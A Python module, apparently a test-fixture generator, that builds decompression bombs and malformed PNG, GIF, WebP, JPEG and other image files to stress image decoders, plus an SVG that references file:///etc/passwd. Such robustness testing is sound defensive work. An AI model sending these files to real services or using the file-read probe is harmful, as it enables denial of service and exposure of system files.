"""Pictures made to hurt whoever decodes them. Small on the wire, huge or endless inside."""

import io
import struct
import zlib
from collections.abc import Iterator

from PIL import Image


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, *more: bytes, colour: int = 2, data: bytes | None = None, depth: int = 8) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    if data is None:
        data = zlib.compress(b"\0" * 10_000, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + b"".join(more) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def zeros(megabytes: int) -> bytes:
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(b"\0" * 2**20) for _ in range(megabytes)) + packer.flush()


def gif(width: int, height: int, frames: int) -> bytes:
    head = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0" * 6
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, width, height, 0) + b"\x02\x02\x44\x01\x00"
    return head + frame * frames + b"\x3b"


def webp(width: int, height: int, flags: int = 0x02, frames: int = 1) -> bytes:
    canvas = bytes([flags, 0, 0, 0]) + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    body = b"WEBPVP8X" + struct.pack("<I", 10) + canvas + b"ANIM" + struct.pack("<IIH", 6, 0, 0)
    small = io.BytesIO()
    Image.new("RGB", (1, 1)).save(small, format="WEBP", lossless=True)
    picture = small.getvalue()[12:]
    frame = b"\0" * 12 + b"\x64\0\0\0" + picture
    body += (b"ANMF" + struct.pack("<I", len(frame)) + frame) * frames
    return b"RIFF" + struct.pack("<I", len(body)) + body


def jpeg(width: int, height: int, scans: int = 0) -> bytes:
    out = io.BytesIO()
    Image.effect_noise((64, 64), 100).convert("RGB").save(out, format="JPEG", progressive=bool(scans))
    body = bytearray(out.getvalue())
    at = body.find(b"\xff\xc2" if scans else b"\xff\xc0")
    body[at + 5 : at + 9] = struct.pack(">HH", height, width)
    if scans:
        start = body.rfind(b"\xff\xda")
        body[-2:-2] = bytes(body[start:-2]) * scans
    return bytes(body)


def bombs() -> Iterator[tuple[str, bytes]]:
    """Name and bytes of each."""
    for width, height in (
        (13_300, 13_300),
        (2**31 - 1, 2**31 - 1),
        (65_535, 65_535),
        (16_385, 1),
        (1, 20_000_000),
        (8193, 8193),
    ):
        yield f"png {width}x{height}", png(width, height)
    yield "png 177 Mpx with data", png(13_300, 13_300, data=zeros(507))
    yield "png of 16 bits", png(8000, 8000, colour=6, depth=16, data=zeros(488))
    yield "png that is cut", png(8000, 8000)
    yield "png with much more data than pixels", png(4, 4, data=zeros(400))
    text = zeros(64)
    yield "png with a zTXt of 64 MB", png(4, 4, chunk(b"zTXt", b"k\0\0" + text))
    yield "png with 80 zTXt of 64 MB", png(4, 4, *[chunk(b"zTXt", b"k%d\0\0" % i + text) for i in range(80)])
    yield "png with an iTXt of 64 MB", png(4, 4, chunk(b"iTXt", b"k\0\1\0\0\0" + text))
    yield "png with an ICC profile of 64 MB", png(4, 4, chunk(b"iCCP", b"p\0\0" + text))
    yield "png with 100,000 chunks", png(4, 4, *[chunk(b"tEXt", b"a\0b")] * 100_000)
    yield "png with a chunk of 2 GB", png(4, 4)[:33] + struct.pack(">I", 2**31 - 1) + b"tEXt"
    yield "png with a wrong checksum", png(4, 4).replace(b"IDAT", b"IDAX", 1)
    yield "png of no width", png(0, 4)
    yield "apng of many frames", png(4, 4, chunk(b"acTL", struct.pack(">II", 2**30, 0)))
    yield "png with a palette that is none", png(4, 4, colour=3)
    for width, height, frames in (
        (65_535, 65_535, 1),
        (16_384, 4096, 1000),
        (1, 1, 100_000),
        (0, 0, 1),
        (8192, 8192, 50),
    ):
        yield f"gif {width}x{height} of {frames}", gif(width, height, frames)
    yield "gif without end", gif(64, 64, 1)[:-1] + b"\x21\xfe" + b"\xff" * 100_000
    for width, height, frames in (
        (16_384, 16_384, 1),
        (2**24, 2**24, 1),
        (4096, 4096, 200),
        (1, 1, 5000),
        (8192, 8192, 8),
    ):
        yield f"webp {width}x{height} of {frames}", webp(width, height, frames=frames)
    yield "webp that is cut", webp(64, 64)[:40]
    yield "webp that lies about its length", webp(64, 64)[:4] + b"\xff\xff\xff\xff" + webp(64, 64)[8:]
    for width, height, scans in (
        (65_500, 65_500, 0),
        (2048, 2048, 2000),
        (16_384, 16_384, 0),
        (4096, 4096, 300),
        (0, 64, 0),
    ):
        yield f"jpeg {width}x{height} of {scans} scans", jpeg(width, height, scans)
    yield "jpeg with 20,000 APP2", jpeg(64, 64)[:2] + b"\xff\xe2\x00\x10ICC_PROFILE\0\1\1" * 20_000 + jpeg(64, 64)[2:]
    yield "jpeg that is cut", jpeg(2048, 2048)[:300]
    yield "bmp", b"BM" + b"\0" * 1000
    yield "tiff", b"II*\0" + b"\xff" * 1000
    yield "fits in gzip", b"SIMPLE  =                    T" + b" " * 3000
    yield "postscript", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 99999 99999\n"
    yield "svg", b"<svg><image href='file:///etc/passwd'/></svg>"
    yield "nothing", b""
    yield "zip", b"PK\3\4" + b"\0" * 100
    yield "png in a png", png(4, 4, chunk(b"eXIf", png(16_000, 16_000)))
